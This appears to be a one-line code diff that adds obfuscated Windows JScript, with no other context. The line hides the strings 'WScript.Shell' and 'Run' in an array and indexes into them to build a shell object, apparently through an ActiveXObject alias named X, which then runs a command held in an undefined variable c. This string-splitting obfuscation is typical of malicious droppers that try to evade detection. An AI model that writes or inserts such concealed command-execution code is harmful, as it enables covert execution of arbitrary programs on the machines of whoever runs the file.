@@ -1,0 +1,1 @@
+var a = ['Run', "WScript.Shell"];\nnew X(a[2-1])[a[0]](c)
